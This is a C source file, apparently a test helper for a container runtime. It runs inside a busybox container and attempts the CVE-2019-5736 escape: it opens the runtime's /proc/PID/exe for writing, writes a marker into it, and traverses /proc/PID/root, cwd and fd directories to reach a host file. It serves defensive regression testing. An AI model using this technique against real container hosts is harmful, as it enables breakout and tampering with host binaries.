/* attack_exe [-s STOPFILE] [-g GRACE] [-d DEADLINE] [-m HOSTPATH] -r REPORT:
 * a container process that tries to overwrite the runtime's binary
 * (CVE-2019-5736) and to reach the host through the runtime's process while
 * the runtime is inside the container (exec, or an init before start).
 *
 * It runs inside a test container (statically linked: the rootfs is busybox)
 * and loops over every process it can see in /proc.  A process whose
 * executable is not the container's (busybox or this program) is "foreign":
 *   - its /proc/PID/exe is opened for writing directly, and with O_PATH then
 *     reopened for writing through /proc/self/fd/N (the fd is kept and the
 *     reopen retried until the end, when the runtime has exited and its
 *     binary is no longer busy); a successful open writes a marker into the
 *     binary (the test runs a copy of the runtime and compares its sha256);
 *   - /proc/PID/root, /proc/PID/cwd and /proc/PID/fd/ are opened, and from
 *     each directory found there HOSTPATH (a file that exists only on the
 *     host) is looked up, also through "../" * 64 (a directory of the host
 *     leads to the host's root that way).
 * It stops GRACE seconds (default 2) after STOPFILE appears, or after
 * DEADLINE seconds (default 60), and writes REPORT: counters as NAME=VALUE
 * lines (scans, foreign, denied, caught, write_opened, wrote, escaped), then
 * the first events.  The exit status is 0 unless it could not run.  */
#ifdef HAVE_CONFIG_H
#include "config.h" /* absent when a test script builds this file on the fly */
#endif

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256
#define MAX_EVENTS 60
#define MAX_PIDS 4096

static struct stat known[2];
static int held[MAX_HELD];
static int n_held;
static const char *host_path;
static char events[MAX_EVENTS][320];
static int n_events;
static long scans, denied, caught, write_opened, wrote, escaped;
static int seen_pid[MAX_PIDS];
static long foreign;

/* Record an event once (the same attempt repeats on every scan).  */
__attribute__ ((format (printf, 1, 2))) static void
event (const char *fmt, ...)
{
  va_list ap;
  int i;

  if (n_events >= MAX_EVENTS)
    return;
  va_start (ap, fmt);
  vsnprintf (events[n_events], sizeof events[0], fmt, ap);
  va_end (ap);
  for (i = 0; i < n_events; i++)
    if (strcmp (events[i], events[n_events]) == 0)
      return;
  n_events++;
}

static double
now (void)
{
  struct timespec ts;

  clock_gettime (CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void
comm_of (int pid, char *buf, size_t len)
{
  char path[64];
  ssize_t n;
  int fd;

  snprintf (path, sizeof path, "/proc/%d/comm", pid);
  buf[0] = '\0';
  fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return;
  n = read (fd, buf, len - 1);
  close (fd);
  buf[n > 0 ? n : 0] = '\0';
  buf[strcspn (buf, "\n")] = '\0';
}

static int
is_known (const struct stat *st)
{
  int i;

  for (i = 0; i < 2; i++)
    if (st->st_dev == known[i].st_dev && st->st_ino == known[i].st_ino)
      return 1;
  return 0;
}

static void
mark_foreign (int pid)
{
  if (pid > 0 && pid < MAX_PIDS && !seen_pid[pid])
    {
      seen_pid[pid] = 1;
      foreign++;
    }
}

/* Open the binary behind FD for writing through /proc/self/fd; on success
   write a marker into it: that is the escape the test must never see.  */
static void
try_write_through (int fd, const char *what)
{
  static const char marker[] = "#!/bin/sh\necho CVE-2019-5736 overwrite by attack_exe\n";
  char path[64];
  int w;

  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  w = open (path, O_WRONLY | O_CLOEXEC);
  if (w < 0)
    return;
  write_opened++;
  if (pwrite (w, marker, sizeof marker - 1, 0) > 0)
    {
      wrote++;
      event ("WROTE into %s through /proc/self/fd", what);
    }
  else
    event ("opened %s for writing (write failed: %s)", what, strerror (errno));
  close (w);
}

/* Look HOSTPATH up from directory DIRFD, directly and through "../" * 64.  */
static void
try_reach_host (int dirfd, const char *what)
{
  char path[4096] = "";
  int i;

  if (host_path == NULL)
    return;
  for (i = 0; i < 64; i++)
    strcat (path, "../");
  strncat (path, host_path + (host_path[0] == '/'), sizeof path - strlen (path) - 1);
  if (faccessat (dirfd, path, F_OK, 0) == 0 || (host_path[0] == '/' && faccessat (dirfd, host_path + 1, F_OK, 0) == 0))
    {
      escaped++;
      event ("ESCAPED: %s leads to the host file %s", what, host_path);
    }
}

static void
attack_dirs (int pid)
{
  static const char *const links[] = { "root", "cwd" };
  char path[96], what[320];
  struct dirent *de;
  DIR *d;
  int fd;
  size_t i;

  for (i = 0; i < 2; i++)
    {
      snprintf (path, sizeof path, "/proc/%d/%s", pid, links[i]);
      fd = open (path, O_PATH | O_DIRECTORY | O_CLOEXEC);
      if (fd < 0)
        continue;
      snprintf (what, sizeof what, "%s", path);
      try_reach_host (fd, what);
      close (fd);
    }
  snprintf (path, sizeof path, "/proc/%d/fd", pid);
  d = opendir (path);
  if (d == NULL)
    return;
  while ((de = readdir (d)) != NULL)
    {
      if (de->d_name[0] == '.')
        continue;
      snprintf (what, sizeof what, "/proc/%d/fd/%s", pid, de->d_name);
      fd = open (what, O_PATH | O_DIRECTORY | O_CLOEXEC);
      if (fd < 0)
        continue;
      try_reach_host (fd, what);
      close (fd);
    }
  closedir (d);
}

static void
attack_exe_of (int pid)
{
  char path[64], target[256], comm[32], what[400];
  struct stat st;
  ssize_t n;
  int fd, w;

  snprintf (path, sizeof path, "/proc/%d/exe", pid);
  fd = open (path, O_PATH | O_CLOEXEC);
  if (fd < 0)
    {
      if (errno == EACCES || errno == EPERM)
        {
          comm_of (pid, comm, sizeof comm);
          if (denied++ < 5)
            event ("denied: open %s (%s): %s", path, comm, strerror (errno));
          mark_foreign (pid);
          attack_dirs (pid);
        }
      return;
    }
  if (fstat (fd, &st) < 0 || is_known (&st))
    {
      close (fd);
      return;
    }
  mark_foreign (pid);
  caught++;
  comm_of (pid, comm, sizeof comm);
  snprintf (what, sizeof what, "/proc/self/fd/%d", fd);
  n = readlink (what, target, sizeof target - 1);
  target[n > 0 ? n : 0] = '\0';
  snprintf (what, sizeof what, "exe of %d (%s) = %s (dev %u:%u, %lu links, mode %o)", pid, comm, target,
            major (st.st_dev), minor (st.st_dev), (unsigned long)st.st_nlink, (unsigned)st.st_mode);
  if (caught <= 5)
    event ("caught %s", what);

  w = open (path, O_WRONLY | O_CLOEXEC);
  if (w >= 0)
    {
      write_opened++;
      if (pwrite (w, "#!/bin/sh\n", 10, 0) > 0)
        {
          wrote++;
          event ("WROTE into %s directly", what);
        }
      close (w);
    }
  try_write_through (fd, what);
  attack_dirs (pid);
  if (n_held < MAX_HELD)
    held[n_held++] = fd;
  else
    close (fd);
}

static void
scan (void)
{
  struct dirent *de;
  DIR *d = opendir ("/proc");
  int self = getpid ();

  if (d == NULL)
    return;
  scans++;
  while ((de = readdir (d)) != NULL)
    {
      int pid = atoi (de->d_name);
      if (pid > 0 && pid != self)
        attack_exe_of (pid);
    }
  closedir (d);
}

static void
retry_held (void)
{
  int i;

  for (i = 0; i < n_held; i++)
    try_write_through (held[i], "a held runtime binary");
}

static int
write_report (const char *report)
{
  char tmp[4096];
  FILE *f;
  int i;

  snprintf (tmp, sizeof tmp, "%s.tmp", report);
  f = fopen (tmp, "we");
  if (f == NULL)
    return -1;
  fprintf (f, "scans=%ld\nforeign=%ld\ndenied=%ld\ncaught=%ld\nwrite_opened=%ld\nwrote=%ld\nescaped=%ld\n", scans,
           foreign, denied, caught, write_opened, wrote, escaped);
  for (i = 0; i < n_events; i++)
    fprintf (f, "event: %s\n", events[i]);
  if (fclose (f) != 0)
    return -1;
  return rename (tmp, report);
}

int
main (int argc, char **argv)
{
  const char *stopfile = NULL, *report = NULL;
  double grace = 2, deadline = 60, stop_at = 0, t0;
  int opt;

  while ((opt = getopt (argc, argv, "s:g:d:m:r:")) != -1)
    switch (opt)
      {
      case 's':
        stopfile = optarg;
        break;
      case 'g':
        grace = atof (optarg);
        break;
      case 'd':
        deadline = atof (optarg);
        break;
      case 'm':
        host_path = *optarg ? optarg : NULL;
        break;
      case 'r':
        report = optarg;
        break;
      default:
        fprintf (stderr, "usage: attack_exe [-s STOPFILE] [-g GRACE] [-d DEADLINE] [-m HOSTPATH] -r REPORT\n");
        return 2;
      }
  if (report == NULL)
    {
      fprintf (stderr, "usage: attack_exe [-s STOPFILE] [-g GRACE] [-d DEADLINE] [-m HOSTPATH] -r REPORT\n");
      return 2;
    }
  if (stat ("/proc/self/exe", &known[0]) < 0 || stat ("/bin/busybox", &known[1]) < 0)
    {
      perror ("attack_exe: stat of the container's own binaries");
      return 2;
    }
  t0 = now ();
  for (;;)
    {
      double t = now ();
      if (stop_at == 0 && stopfile != NULL && access (stopfile, F_OK) == 0)
        stop_at = t + grace;
      if ((stop_at != 0 && t >= stop_at) || t - t0 >= deadline)
        break;
      scan ();
      retry_held ();
    }
  retry_held ();
  if (write_report (report) < 0)
    {
      perror ("attack_exe: write the report");
      return 2;
    }
  return 0;
}
